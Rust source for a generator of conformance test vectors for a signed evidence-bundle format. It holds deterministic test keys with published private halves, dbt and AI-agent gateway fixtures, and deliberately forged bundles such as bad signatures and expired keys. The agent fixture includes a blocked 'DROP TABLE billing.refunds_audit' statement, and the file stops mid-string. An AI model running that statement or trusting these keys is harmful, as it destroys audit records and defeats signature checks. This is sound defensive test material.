#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Writes Clyra's conformance vectors: `spec/def/test-vectors/`, `spec/pef/test-vectors/` and the
//! public test keys in `spec/test-vectors-keys/`.
//!
//! ```text
//! cargo run -p clyra-evidence --example gen_vectors -- --out spec
//! cargo run -p clyra-evidence --example gen_vectors -- --out /tmp/fresh --force
//! ```
//!
//! Each case is one folder: `NAME/` verifies, `NAME_fail/` does not. It holds `bundle.zip` (or
//! `bundle/` for the directory form), `trust.json`, `expected.json`, `README.md` and, when the
//! case supplies external artifacts, `artifacts/`. Everything is deterministic: fixed keys derived
//! from fixed labels, fixed timestamps, fixed journals, and signatures that are deterministic
//! (Ed25519, ECDSA P-256 with RFC 6979). Running the generator twice gives identical bytes.
//!
//! Published vectors are immutable (spec/VERSIONING.md rule 4): an existing case folder is never
//! overwritten, only reported as kept. `--force` replaces existing folders and is refused in a
//! tree that holds `test-vectors.lock`, so it can only build a fresh tree elsewhere.
//!
//! Every case states the codes the spec requires (`expect`); the generator runs the Rust verifier
//! on the files exactly as written and refuses to write a case the verifier disagrees with.

#[allow(dead_code)]
#[path = "../tests/support/bundle_forge.rs"]
mod forge;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use base64::Engine as _;
use clyra_evidence::bundle::{
    verify_path, ArtifactRef, BundleBuilder, Governance, Kind, Producer, SlaOp, VerifyOptions,
    ATTESTATION_PATH, JOURNAL_PATH, MANIFEST_PATH,
};
use clyra_evidence::codes::Code;
use clyra_evidence::dsse::{self, Envelope};
use clyra_evidence::keys::{PrivateKey, Signer};
use clyra_evidence::trust::TrustStore;
use clyra_evidence::{jcs, Digest};
use forge::{
    central_entries, lines, manifest, refresh_files, refresh_journal, repack_resigned, replace_all,
    resign, restate, rezip, set_lines, set_manifest, unzip, Contents,
};
use serde_json::{json, Value};

/// Published cases a current verifier no longer agrees with (spec/test-vectors-superseded.txt).
const SUPERSEDED: [(Kind, &str); 1] = [(Kind::Def, "unknown_minor_version_fail")];

/// When every bundle was built (except the continuation segment, built an hour later).
const CREATED_AT: &str = "2026-11-24T10:00:00Z";
/// The instant every case is verified at.
const VERIFY_AT: &str = "2026-11-24T12:00:00Z";
/// Start of the trusted keys' validity window.
const TRUSTED_FROM: &str = "2026-01-01T00:00:00Z";

fn ts(s: &str) -> jiff::Timestamp {
    s.parse().unwrap()
}

fn sha(text: &str) -> String {
    Digest::sha256(text.as_bytes()).to_hex()
}

// ------------------------------------------------------------------------------------------------
// Keys: derived from fixed labels, so the generator needs no stored secret and is reproducible.

struct TestKey {
    file: &'static str,
    label: &'static str,
    key: PrivateKey,
}

struct Keys {
    ed25519: TestKey,
    p256: TestKey,
    untrusted: TestKey,
}

fn seed(label: &str) -> [u8; 32] {
    *Digest::sha256(label.as_bytes()).as_bytes()
}

fn ed25519_key(label: &str) -> PrivateKey {
    use p256::pkcs8::{EncodePrivateKey as _, LineEnding};
    let sk = ed25519_dalek::SigningKey::from_bytes(&seed(label));
    PrivateKey::from_pkcs8_pem(&sk.to_pkcs8_pem(LineEnding::LF).unwrap()).unwrap()
}

fn p256_key(label: &str) -> PrivateKey {
    use p256::pkcs8::{EncodePrivateKey as _, LineEnding};
    let sk = p256::ecdsa::SigningKey::from_slice(&seed(label)).unwrap();
    PrivateKey::from_pkcs8_pem(&sk.to_pkcs8_pem(LineEnding::LF).unwrap()).unwrap()
}

impl Keys {
    fn derive() -> Keys {
        let ed = "clyra test vectors v0.1: ed25519 trusted";
        let p = "clyra test vectors v0.1: p256 trusted";
        let un = "clyra test vectors v0.1: ed25519 untrusted";
        Keys {
            ed25519: TestKey {
                file: "ed25519-trusted",
                label: ed,
                key: ed25519_key(ed),
            },
            p256: TestKey {
                file: "p256-trusted",
                label: p,
                key: p256_key(p),
            },
            untrusted: TestKey {
                file: "ed25519-untrusted",
                label: un,
                key: ed25519_key(un),
            },
        }
    }

    fn all(&self) -> [&TestKey; 3] {
        [&self.ed25519, &self.p256, &self.untrusted]
    }

    /// The files of `spec/test-vectors-keys/`.
    fn files(&self) -> Vec<(String, Vec<u8>)> {
        let mut out = Vec::new();
        let mut table = String::new();
        for k in self.all() {
            let pem = k.key.to_pkcs8_pem().unwrap();
            out.push((format!("{}.pkcs8.pem", k.file), pem.as_bytes().to_vec()));
            out.push((
                format!("{}.pub.pem", k.file),
                k.key.public_key().to_pem().into_bytes(),
            ));
            table.push_str(&format!(
                "| `{}` | {} | `{}` | `{}` |\n",
                k.file,
                k.key.algorithm(),
                k.key.key_id(),
                k.label
            ));
        }
        let readme = format!(
            "# Test vector keys: PUBLIC, NEVER TRUST IN PRODUCTION\n\n\
             These are the keys that sign Clyra's conformance vectors (`spec/def/test-vectors/`,\n\
             `spec/pef/test-vectors/`). Their private halves are published here on purpose, so\n\
             anyone can rebuild the vectors and forge new cases. They are public test keys: a trust\n\
             file that lists one of them proves nothing, and no production trust file may ever\n\
             contain them.\n\n\
             Each key is derived deterministically: the 32-byte secret is the SHA-256 of the label\n\
             (the Ed25519 seed, or the P-256 scalar). The generator\n\
             (`crates/clyra-evidence/examples/gen_vectors.rs`) derives them again and refuses to run\n\
             if these files differ.\n\n\
             | file | algorithm | keyid (SHA-256 of the SubjectPublicKeyInfo DER) | label |\n\
             |---|---|---|---|\n{table}\n\
             `*.pkcs8.pem` is the unencrypted PKCS#8 private key, `*.pub.pem` the SubjectPublicKeyInfo.\n\
             `ed25519-untrusted` is deliberately absent from every trust file: it signs the\n\
             `untrusted_key_fail` case.\n"
        );
        out.push(("README.md".to_owned(), readme.into_bytes()));
        out.sort();
        out
    }
}

/// One key entry of a trust file.
struct Trusted<'k> {
    key: &'k TestKey,
    not_before: &'static str,
    not_after: Option<&'static str>,
}

fn trusted(key: &TestKey) -> Trusted<'_> {
    Trusted {
        key,
        not_before: TRUSTED_FROM,
        not_after: None,
    }
}

/// A trust file (spec/common/trust.schema.json), pretty-printed with a final newline.
fn trust_json(entries: &[Trusted<'_>]) -> Vec<u8> {
    #[derive(serde::Serialize)]
    struct Entry {
        keyid: String,
        algorithm: &'static str,
        public_key: String,
        not_before: &'static str,
        #[serde(skip_serializing_if = "Option::is_none")]
        not_after: Option<&'static str>,
        name: &'static str,
        comment: String,
    }
    #[derive(serde::Serialize)]
    struct File {
        version: u32,
        keys: Vec<Entry>,
    }
    let file = File {
        version: 1,
        keys: entries
            .iter()
            .map(|t| Entry {
                keyid: t.key.key.key_id().to_hex(),
                algorithm: t.key.key.algorithm().as_str(),
                public_key: t.key.key.public_key().to_pem(),
                not_before: t.not_before,
                not_after: t.not_after,
                name: t.key.file,
                comment: format!(
                    "PUBLIC TEST KEY, never trust in production: spec/test-vectors-keys/{}.pkcs8.pem",
                    t.key.file
                ),
            })
            .collect(),
    };
    let mut text = serde_json::to_string_pretty(&file).unwrap();
    text.push('\n');
    // It must be a valid trust file.
    TrustStore::from_json(text.as_bytes()).unwrap();
    text.into_bytes()
}

// ------------------------------------------------------------------------------------------------
// Scenarios, modelled on real use.

fn producer() -> Producer {
    Producer {
        name: "clyra".into(),
        version: "0.1.0".into(),
    }
}

/// A dbt build on Postgres: WAL LSN anchors before and after, three models, three tests.
struct DbtRun {
    run_id: &'static str,
    invocation: &'static str,
    /// Date and hour prefix of every `ts`, e.g. `2026-11-24T09`.
    hour: &'static str,
    lsn: (&'static str, &'static str),
    rows: (u64, u64, u64),
}

const DBT_0900: DbtRun = DbtRun {
    run_id: "dbt-finance-20261124-0900",
    invocation: "5c7e2f1a-8d43-4b6e-9a0f-3e2d1c4b5a69",
    hour: "2026-11-24T09",
    lsn: ("0/3A2B5C8", "0/3A4F1D0"),
    rows: (48211, 47980, 18422),
};

/// The same job the day before: the donor of the spliced entry.
const DBT_PREVIOUS_DAY: DbtRun = DbtRun {
    run_id: "dbt-finance-20261123-0900",
    invocation: "0d91b6f4-2c5e-4f7a-8b13-6e4a9d2c7f05",
    hour: "2026-11-23T09",
    lsn: ("0/39F0A18", "0/3A1177C"),
    rows: (47702, 47455, 18197),
};

/// The next hourly run, continuing the same journal.
const DBT_1000: DbtRun = DbtRun {
    run_id: "dbt-finance-20261124-1000",
    invocation: "7b2a4c9e-1f36-4d58-a0e7-9c3b5d1f2e84",
    hour: "2026-11-24T10",
    lsn: ("0/3A4F2A8", "0/3A5C7E0"),
    rows: (312, 298, 117),
};

fn dbt_events(r: &DbtRun) -> Vec<Value> {
    let at = |s: &str| format!("{}:{s}Z", r.hour);
    let run = r.run_id;
    vec![
        json!({"ts": at("00:00.120"), "kind": "dbt.run.started", "run_id": run,
               "dbt": {"version": "1.8.7", "adapter": "postgres", "target": "prod",
                       "invocation_id": r.invocation,
                       "command": "dbt build --select tag:finance", "threads": 4}}),
        json!({"ts": at("00:00.184"), "kind": "warehouse.anchor", "run_id": run, "phase": "before",
               "anchor": {"platform": "postgres", "kind": "wal_lsn", "value": r.lsn.0},
               "database": "analytics"}),
        json!({"ts": at("00:05.310"), "kind": "dbt.model.finished", "run_id": run,
               "unique_id": "model.finance.stg_orders", "relation": "analytics.finance.stg_orders",
               "materialized": "incremental", "status": "success", "rows_affected": r.rows.0,
               "execution_ms": 5126}),
        json!({"ts": at("00:09.944"), "kind": "dbt.model.finished", "run_id": run,
               "unique_id": "model.finance.stg_payments",
               "relation": "analytics.finance.stg_payments", "materialized": "incremental",
               "status": "success", "rows_affected": r.rows.1, "execution_ms": 4634}),
        json!({"ts": at("00:47.356"), "kind": "dbt.model.finished", "run_id": run,
               "unique_id": "model.finance.fct_revenue", "relation": "analytics.finance.fct_revenue",
               "materialized": "table", "status": "success", "rows_affected": r.rows.2,
               "execution_ms": 37412}),
        json!({"ts": at("00:48.021"), "kind": "dbt.test.finished", "run_id": run,
               "unique_id": "test.finance.not_null_fct_revenue_amount.3b1f9e", "status": "pass",
               "failures": 0, "execution_ms": 665}),
        json!({"ts": at("00:48.530"), "kind": "dbt.test.finished", "run_id": run,
               "unique_id": "test.finance.unique_fct_revenue_order_id.8c2d41", "status": "pass",
               "failures": 0, "execution_ms": 509}),
        json!({"ts": at("00:49.102"), "kind": "dbt.test.finished", "run_id": run,
               "unique_id": "test.finance.relationships_fct_revenue_customer_id.a7e310",
               "status": "pass", "failures": 0, "execution_ms": 572}),
        json!({"ts": at("00:49.240"), "kind": "warehouse.anchor", "run_id": run, "phase": "after",
               "anchor": {"platform": "postgres", "kind": "wal_lsn", "value": r.lsn.1},
               "database": "analytics"}),
        json!({"ts": at("00:49.300"), "kind": "dbt.run.finished", "run_id": run,
               "status": "success", "elapsed_ms": 49180}),
    ]
}

/// dbt's `run_results.json`, trimmed to what an auditor reads.
fn run_results(r: &DbtRun) -> Vec<u8> {
    let doc = json!({
        "metadata": {"dbt_schema_version": "https://schemas.getdbt.com/dbt/run-results/v6.json",
                     "dbt_version": "1.8.7", "invocation_id": r.invocation},
        "elapsed_time": 49.18,
        "results": [
            {"unique_id": "model.finance.stg_orders", "status": "success",
             "adapter_response": {"_message": format!("INSERT 0 {}", r.rows.0), "rows_affected": r.rows.0},
             "execution_time": 5.126},
            {"unique_id": "model.finance.stg_payments", "status": "success",
             "adapter_response": {"_message": format!("INSERT 0 {}", r.rows.1), "rows_affected": r.rows.1},
             "execution_time": 4.634},
            {"unique_id": "model.finance.fct_revenue", "status": "success",
             "adapter_response": {"_message": format!("SELECT {}", r.rows.2), "rows_affected": r.rows.2},
             "execution_time": 37.412},
            {"unique_id": "test.finance.not_null_fct_revenue_amount.3b1f9e", "status": "pass",
             "failures": 0, "execution_time": 0.665},
            {"unique_id": "test.finance.unique_fct_revenue_order_id.8c2d41", "status": "pass",
             "failures": 0, "execution_time": 0.509},
            {"unique_id": "test.finance.relationships_fct_revenue_customer_id.a7e310",
             "status": "pass", "failures": 0, "execution_time": 0.572}
        ]
    });
    let mut text = serde_json::to_string_pretty(&doc).unwrap();
    text.push('\n');
    text.into_bytes()
}

fn dbt_builder(r: &DbtRun, bundle_id: &str, created_at: &str) -> BundleBuilder {
    let mut b = BundleBuilder::new(
        Kind::Def,
        bundle_id,
        ts(created_at),
        producer(),
        Governance {
            tenant: "acme".into(),
            environment: "prod".into(),
            run_id: r.run_id.into(),
            actors: vec![
                "airflow:dag/finance_hourly".into(),
                "service:dbt-runner@acme.example".into(),
            ],
        },
    );
    b.chain_events(dbt_events(r)).unwrap();
    dbt_finish(&mut b, r);
    b
}

/// The embedded artifact, datasets, durations and SLAs of a dbt bundle.
fn dbt_finish(b: &mut BundleBuilder, r: &DbtRun) {
    b.artifact("dbt/run_results.json", run_results(r), "application/json")
        .unwrap();
    let mut p = b.derived_predicate().unwrap();
    // dbt metadata is an open object: members dbt adds are kept.
    p["dbt"]["threads"] = json!(4);
    p["datasets"] = json!([
        {"name": "raw.shop.orders", "role": "input", "row_count": 1_284_113},
        {"name": "raw.billing.payments", "role": "input", "row_count": 1_190_457},
        {"name": "analytics.finance.fct_revenue", "role": "output", "row_count": r.rows.2,
         "schema_sha256": sha("order_id bigint, customer_id bigint, amount numeric(12,2), booked_at timestamptz")}
    ]);
    p["metrics"] = json!({"durations_ms": {"run": 49180, "models": 47172, "tests": 1746}});
    b.predicate(p).unwrap();
    b.sla("durations_ms.run", SlaOp::Le, 900_000.0);
    b.sla("entries", SlaOp::Ge, 1.0);
}

/// A support agent's session through the gateway: allowed reads, a refund held for approval and
/// approved by a second person, a blocked DDL statement.
fn agent_events() -> Vec<Value> {
    let session = "sess-7c1f0a";
    let actor = json!({"type": "agent", "id": "support-copilot",
                       "on_behalf_of": "user:ana.silva@acme.example"});
    vec![
        json!({"ts": "2026-11-24T09:15:00.412Z", "kind": "gateway.session.started",
               "session": session, "actor": actor, "model": "claude-sonnet-4",
               "policy": "acme-gateway-prod@v12"}),
        json!({"ts": "2026-11-24T09:15:02.001Z", "kind": "gateway.decision", "session": session,
               "actor": actor, "tool": "crm.lookup_customer", "decision": "allow",
               "rule": "read-only-crm", "args_sha256": sha("{\"customer_id\":\"C-20931\"}"),
               "latency_ms": 4.1}),
        json!({"ts": "2026-11-24T09:15:02.188Z", "kind": "gateway.receipt", "session": session,
               "tool": "crm.lookup_customer", "receipt_sha256": sha("receipt 1 of sess-7c1f0a"),
               "result_sha256": sha("{\"customer_id\":\"C-20931\",\"tier\":\"gold\"}")}),
        json!({"ts": "2026-11-24T09:15:03.250Z", "kind": "gateway.decision", "session": session,
               "actor": actor, "tool": "billing.issue_refund", "decision": "require_approval",
               "rule": "refund-over-100-eur",
               "args_sha256": sha("{\"amount_eur\":240,\"invoice\":\"INV-88412\"}"),
               "latency_ms": 6.3}),
        json!({"ts": "2026-11-24T09:16:40.900Z", "kind": "approval.granted", "session": session,
               "tool": "billing.issue_refund", "approver": "user:lee.okafor@acme.example",
               "two_person_rule": true, "request_seq": 3}),
        json!({"ts": "2026-11-24T09:16:41.020Z", "kind": "gateway.receipt", "session": session,
               "tool": "billing.issue_refund", "receipt_sha256": sha("receipt 2 of sess-7c1f0a"),
               "result_sha256": sha("{\"refund\":\"RF-1177\",\"status\":\"issued\"}")}),
        json!({"ts": "2026-11-24T09:16:55.731Z", "kind": "gateway.decision", "session": session,
               "actor": actor, "tool": "sql.execute", "decision": "block",
               "rule": "no-ddl-in-prod", "args_sha256": sha("DROP TABLE billing.refunds_audit"),
               "latency_ms": 3.8}),
        json!({"ts": "2026-11-24T09:17:02.114Z", "kind": "agent.run.finished", "session": session,
               "status": "success"}),
    ]
}

fn agent_builder(bundle_id: &str) -> BundleBuilder {
    let mut b = BundleBuilder::new(
        Kind::Pef,
        bundle_id,
        ts(CREATED_AT),
        producer(),
        Governance {
            tenant: "acme".into(),
            environment: "prod".into(),
            run_id: "sess-7c1f0a".into(),
            actors: vec![
                "agent:support-copilot".into(),
                "user:ana.silva@acme.example".into(),
                "user:lee.okafor@acme.example".into(),
            ],
        },
    );
    b.policy_sha256(Some(Digest::sha256(b"acme-gateway-prod@v12")));
    b.chain_events(agent_events()).unwrap();
    let mut p = b.derived_predicate().unwrap();
    p["receipts"] = json!([
        {"seq": 2, "receipt_sha256": sha("receipt 1 of sess-7c1f0a")},
        {"seq": 5, "receipt_sha256": sha("receipt 2 of sess-7c1f0a")}
    ]);
    p["metrics"] = json!({"latency_ms": {"p50": 4.1, "p95": 6.3, "p99": 6.3},
                          "durations_ms": {"session": 121702}});
    b.predicate(p).unwrap();
    b.sla("latency_ms.p95", SlaOp::Le, 50.0);
    b
}

/// A Parquet export of the fact table, referenced by the bundle but stored in the lake.
fn parquet_bytes(variant: &str) -> Vec<u8> {
    let mut out = b"PAR1".to_vec();
    let mut block = Digest::sha256(format!("fct_revenue export {variant}").as_bytes());
    while out.len() < 508 {
        out.extend_from_slice(block.as_bytes());
        block = Digest::sha256(block.as_bytes());
    }
    out.truncate(508);
    out.extend_from_slice(b"PAR1");
    out
}

const PARQUET_NAME: &str = "fct_revenue.parquet";

fn external_builder() -> BundleBuilder {
    let mut b = dbt_builder(
        &DBT_0900,
        "def-dbt-finance-20261124-0900-export",
        CREATED_AT,
    );
    let data = parquet_bytes("2026-11-24");
    b.external_artifact(ArtifactRef {
        name: PARQUET_NAME.into(),
        uri: "s3://acme-lake/finance/fct_revenue/dt=2026-11-24/part-00000.parquet".into(),
        size: data.len() as u64,
        media_type: "application/vnd.apache.parquet".into(),
        sha256: Digest::sha256(&data),
    })
    .unwrap();
    b
}

// ------------------------------------------------------------------------------------------------
// Cases

#[derive(Clone, Copy, PartialEq, Eq)]
enum Category {
    Valid,
    Forged,
    Negative,
}

impl Category {
    fn as_str(self) -> &'static str {
        match self {
            Category::Valid => "valid",
            Category::Forged => "forged",
            Category::Negative => "negative",
        }
    }
}

enum Form {
    Zip(Vec<u8>),
    Dir(Contents),
}

struct Case {
    kind: Kind,
    name: &'static str,
    category: Category,
    description: &'static str,
    form: Form,
    trust: Vec<u8>,
    threshold: usize,
    artifacts: Option<Vec<(&'static str, Vec<u8>)>>,
    /// The codes the spec requires (a set); the verifier must report exactly these.
    expect: Vec<Code>,
}

struct Ctx {
    keys: Keys,
    trust: Vec<u8>,
}

impl Ctx {
    fn ed(&self) -> &PrivateKey {
        &self.keys.ed25519.key
    }

    fn sign_ed(&self) -> [&dyn Signer; 1] {
        [self.ed()]
    }

    fn dbt(&self) -> Vec<u8> {
        dbt_builder(&DBT_0900, "def-dbt-finance-20261124-0900", CREATED_AT)
            .build(&self.sign_ed())
            .unwrap()
            .into_zip_bytes()
    }

    fn agent(&self) -> Vec<u8> {
        agent_builder("pef-support-copilot-sess-7c1f0a")
            .build(&self.sign_ed())
            .unwrap()
            .into_zip_bytes()
    }

    fn external(&self) -> Vec<u8> {
        external_builder()
            .build(&self.sign_ed())
            .unwrap()
            .into_zip_bytes()
    }

    fn case(
        &self,
        kind: Kind,
        name: &'static str,
        category: Category,
        expect: &[Code],
        description: &'static str,
        bundle: Vec<u8>,
    ) -> Case {
        Case {
            kind,
            name,
            category,
            description,
            form: Form::Zip(bundle),
            trust: self.trust.clone(),
            threshold: 1,
            artifacts: None,
            expect: expect.to_vec(),
        }
    }
}

/// Re-encodes an envelope canonically after `change`.
fn edit_envelope(c: &mut Contents, change: impl FnOnce(&mut Envelope)) {
    let mut env = Envelope::from_json(&c[ATTESTATION_PATH]).unwrap();
    change(&mut env);
    c.insert(
        ATTESTATION_PATH.into(),
        jcs::canonicalize(env.to_json().as_bytes()).unwrap(),
    );
}

fn edit(bytes: &[u8], change: impl FnOnce(&mut Contents)) -> Vec<u8> {
    let mut c = unzip(bytes);
    change(&mut c);
    rezip(&c)
}

fn replace_once(bytes: &[u8], from: &str, to: &str) -> Vec<u8> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    assert_eq!(text.matches(from).count(), 1, "`{from}` must occur once");
    text.replacen(from, to, 1).into_bytes()
}

fn le32(b: &[u8], at: usize) -> usize {
    u32::from_le_bytes([b[at], b[at + 1], b[at + 2], b[at + 3]]) as usize
}

/// The offset of `name`'s central directory entry and of its local header.
fn entry_offsets(bytes: &[u8], name: &str) -> (usize, usize) {
    let (_, cd) = central_entries(bytes)
        .into_iter()
        .find(|(n, _)| n == name)
        .unwrap();
    (cd, le32(bytes, cd + 42))
}

fn valid_cases(x: &Ctx) -> Vec<Case> {
    use Category::Valid;
    let k = &x.keys;
    let mut out = Vec::new();

    out.push(x.case(
        Kind::Def,
        "dbt_run_postgres",
        Valid,
        &[],
        "A dbt build of the finance models on Postgres, signed with the trusted Ed25519 key. The \
         journal records the run start, a WAL LSN anchor before and after (`pg_current_wal_lsn()`), \
         three model results and three test results, and the run end; the bundle embeds dbt's \
         `run_results.json`. The predicate carries the run, both anchors with the journal `seq` that \
         recorded them, dbt metadata (an open object: `threads` is kept), datasets, durations and \
         two SLAs whose `met` flags hold. Every check passes, so the bundle must verify with no \
         finding.",
        x.dbt(),
    ));

    let external = x.external();
    let mut supplied = x.case(
        Kind::Def,
        "external_artifact_supplied",
        Valid,
        &[],
        "The dbt run bundle with one external artifact: a Parquet export of `fct_revenue` that \
         lives in S3 and is referenced by name, URI, size and SHA-256 (a leaf of the bundle Merkle \
         tree after the file entries). The verifier is given `artifacts/` (`--artifacts`), where \
         `fct_revenue.parquet` has exactly the referenced size and digest, so the reference is \
         checked and the bundle must verify with no finding and no warning.",
        external.clone(),
    );
    supplied.artifacts = Some(vec![(PARQUET_NAME, parquet_bytes("2026-11-24"))]);
    out.push(supplied);

    out.push(x.case(
        Kind::Def,
        "external_artifact_not_supplied",
        Valid,
        &[Code::ArtifactNotChecked],
        "The same bundle as `external_artifact_supplied`, verified without `--artifacts`. The \
         external artifact's bytes are not available, so they cannot be checked: spec §7 requires \
         the warning `W_ARTIFACT_NOT_CHECKED` for the reference. A warning leaves the verdict \
         `valid`, but it must always be shown, never silently passed.",
        external,
    ));

    let mut ecdsa = x.case(
        Kind::Def,
        "ecdsa_p256_signer",
        Valid,
        &[],
        "The dbt run bundle signed only with the trusted ECDSA P-256 key (`ecdsa-sha2-256-nistp256`, \
         SHA-256, DER-encoded signature, deterministic nonce per RFC 6979); the trust file lists \
         only that key. ECDSA is one of the algorithms a verifier must support, so the bundle must \
         verify with no finding.",
        dbt_builder(&DBT_0900, "def-dbt-finance-20261124-0900-p256", CREATED_AT)
            .build(&[&k.p256.key as &dyn Signer])
            .unwrap()
            .into_zip_bytes(),
    );
    ecdsa.trust = trust_json(&[trusted(&k.p256)]);
    out.push(ecdsa);

    // The next hourly run continues the journal where the 09:00 bundle ended.
    let first = dbt_builder(&DBT_0900, "def-dbt-finance-20261124-0900", CREATED_AT)
        .build(&x.sign_ed())
        .unwrap();
    let (next_seq, head) = (
        first.manifest().journal.last_seq + 1,
        first.manifest().journal.head,
    );
    let mut b = BundleBuilder::new(
        Kind::Def,
        "def-dbt-finance-20261124-1000",
        ts("2026-11-24T11:00:00Z"),
        producer(),
        Governance {
            tenant: "acme".into(),
            environment: "prod".into(),
            run_id: DBT_1000.run_id.into(),
            actors: vec![
                "airflow:dag/finance_hourly".into(),
                "service:dbt-runner@acme.example".into(),
            ],
        },
    );
    b.resume_from(next_seq, head).unwrap();
    b.chain_events(dbt_events(&DBT_1000)).unwrap();
    dbt_finish(&mut b, &DBT_1000);
    out.push(x.case(
        Kind::Def,
        "journal_continuation",
        Valid,
        &[],
        "A journal segment that continues an earlier one: the 10:00 run of the same dbt job, whose \
         first entry has `seq` 10 and whose `prev` (and the manifest's `journal.first_prev`) is the \
         `head` of the 09:00 bundle `dbt_run_postgres`. A segment need not start at `seq` 0; only a \
         segment that does start at 0 must start from 64 zeros. The anchors name `seq` 11 and 18, \
         inside the segment. Every link holds, so the bundle must verify with no finding.",
        b.build(&x.sign_ed()).unwrap().into_zip_bytes(),
    ));

    out.push(x.case(
        Kind::Pef,
        "agent_session",
        Valid,
        &[],
        "A support agent's session through the Clyra gateway, on behalf of a user: a CRM lookup \
         allowed, a refund of 240 EUR held for approval (`require_approval`), the approval granted \
         by a second person (`approval.granted`, two-person rule), the refund's receipt, and a \
         `DROP TABLE` blocked by policy. The predicate counts the decisions, lists the three tool \
         calls, the approval and two receipts by journal `seq` (arguments and results only by \
         digest), latency percentiles and an SLA that holds. The bundle must verify with no finding.",
        x.agent(),
    ));

    let mut two = x.case(
        Kind::Pef,
        "two_signers_threshold_2",
        Valid,
        &[],
        "The agent session signed by two distinct trusted keys (Ed25519 and ECDSA P-256), verified \
         with a threshold of 2 (`--threshold 2`). The verifier counts distinct trusted keys with a \
         valid signature over the PAE, finds two, and the bundle must verify with no finding.",
        agent_builder("pef-support-copilot-sess-7c1f0a-2of2")
            .build(&[x.ed() as &dyn Signer, &k.p256.key])
            .unwrap()
            .into_zip_bytes(),
    );
    two.trust = trust_json(&[trusted(&k.ed25519), trusted(&k.p256)]);
    two.threshold = 2;
    out.push(two);

    let mut dir = x.case(
        Kind::Pef,
        "directory_form",
        Valid,
        &[],
        "The agent session as an unpacked directory (`bundle/`, spec §2.3) instead of a ZIP: the \
         same files at the same relative paths. The path, size and link rules apply as for the \
         container, and every other check is the same, so the directory must verify with no \
         finding.",
        Vec::new(),
    );
    dir.form = Form::Dir(unzip(
        &agent_builder("pef-support-copilot-sess-7c1f0a-dir")
            .build(&x.sign_ed())
            .unwrap()
            .into_zip_bytes(),
    ));
    out.push(dir);

    out
}

fn forged_cases(x: &Ctx) -> Vec<Case> {
    use Category::Forged;
    let k = &x.keys;
    let dbt = x.dbt();
    let agent = x.agent();
    let mut out = Vec::new();

    out.push(x.case(
        Kind::Def,
        "bad_signature_fail",
        Forged,
        &[Code::Signature],
        "The dbt run bundle with one bit of its Ed25519 signature flipped (the envelope is \
         re-encoded canonically, so only the signature differs). The keyid hint still names the \
         trusted key, but no signature verifies over the PAE under any trusted key: `E_SIGNATURE`.",
        edit(&dbt, |c| {
            edit_envelope(c, |e| e.signatures[0].sig[10] ^= 0x01);
        }),
    ));

    let mut untrusted = x.case(
        Kind::Def,
        "untrusted_key_fail",
        Forged,
        &[Code::KeyNotTrusted],
        "A well-formed dbt run bundle signed by a key that is not in the trust file \
         (`ed25519-untrusted`). The signature is valid for that key, but the verifier trusts only \
         `ed25519-trusted`; no trusted key verifies it and the signature's keyid names a key absent \
         from the trust file: `E_KEY_NOT_TRUSTED`.",
        dbt_builder(&DBT_0900, "def-dbt-finance-20261124-0900", CREATED_AT)
            .build(&[&k.untrusted.key as &dyn Signer])
            .unwrap()
            .into_zip_bytes(),
    );
    untrusted.trust = trust_json(&[trusted(&k.ed25519)]);
    out.push(untrusted);

    let mut expired = x.case(
        Kind::Def,
        "expired_key_fail",
        Forged,
        &[Code::KeyExpired],
        "The dbt run bundle, correctly signed, verified with a trust file whose window for the \
         signing key ended on 2026-06-01, before the verification time 2026-11-24T12:00:00Z. The \
         signature verifies only under a trusted key outside its validity window: `E_KEY_EXPIRED`.",
        dbt.clone(),
    );
    expired.trust = trust_json(&[Trusted {
        key: &k.ed25519,
        not_before: "2025-01-01T00:00:00Z",
        not_after: Some("2026-06-01T00:00:00Z"),
    }]);
    out.push(expired);

    let mut boundary = x.case(
        Kind::Def,
        "key_expired_at_verify_time_fail",
        Forged,
        &[Code::KeyExpired],
        "The dbt run bundle verified with a trust file whose `not_after` is exactly the \
         verification time. A key's window is `not_before <= t < not_after` (the end is \
         exclusive), so at `not_after` the key is already expired: `E_KEY_EXPIRED`.",
        dbt.clone(),
    );
    boundary.trust = trust_json(&[Trusted {
        key: &k.ed25519,
        not_before: TRUSTED_FROM,
        not_after: Some(VERIFY_AT),
    }]);
    out.push(boundary);

    let mut early = x.case(
        Kind::Def,
        "key_not_yet_valid_fail",
        Forged,
        &[Code::KeyExpired],
        "The dbt run bundle verified with a trust file whose window for the signing key starts on \
         2026-12-01, after the verification time. A key that is not yet valid is reported like an \
         expired one: `E_KEY_EXPIRED`.",
        dbt.clone(),
    );
    early.trust = trust_json(&[Trusted {
        key: &k.ed25519,
        not_before: "2026-12-01T00:00:00Z",
        not_after: None,
    }]);
    out.push(early);

    out.push(x.case(
        Kind::Def,
        "signature_over_payload_fail",
        Forged,
        &[Code::Signature],
        "The dbt run bundle re-signed by the trusted key over the raw payload bytes instead of the \
         DSSE pre-authentication encoding `PAE(payloadType, payload)`. Such a signature does not \
         bind the payload type, and a DSSE verifier never accepts it: `E_SIGNATURE`.",
        edit(&dbt, |c| {
            let ed = x.ed();
            edit_envelope(c, |e| e.signatures[0].sig = ed.sign(&e.payload).unwrap());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "payload_type_swapped_fail",
        Forged,
        &[Code::PayloadType],
        "The dbt run statement signed by the trusted key under the payload type \
         `application/json` instead of `application/vnd.in-toto+json`. The signature is valid over \
         the PAE of that type, so it verifies, and then the type itself is refused: \
         `E_PAYLOAD_TYPE`.",
        edit(&dbt, |c| {
            let env = Envelope::from_json(&c[ATTESTATION_PATH]).unwrap();
            let other = dsse::sign("application/json", &env.payload, &x.sign_ed()).unwrap();
            c.insert(
                ATTESTATION_PATH.into(),
                jcs::canonicalize(other.to_json().as_bytes()).unwrap(),
            );
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "payload_type_changed_after_signing_fail",
        Forged,
        &[Code::Signature],
        "The dbt run bundle whose envelope `payloadType` was changed to `application/json` after \
         signing, keeping the signature. The PAE covers the payload type, so the signature no \
         longer verifies: `E_SIGNATURE` (the type is only judged once a signature verified).",
        edit(&dbt, |c| {
            edit_envelope(c, |e| e.payload_type = "application/json".into());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "reencoded_base64_fail",
        Forged,
        &[Code::NotCanonical],
        "The dbt run bundle whose envelope `payload` is re-encoded in URL-safe base64 (`-` and `_` \
         for `+` and `/`, padding kept). It decodes to the same signed bytes, so the signature \
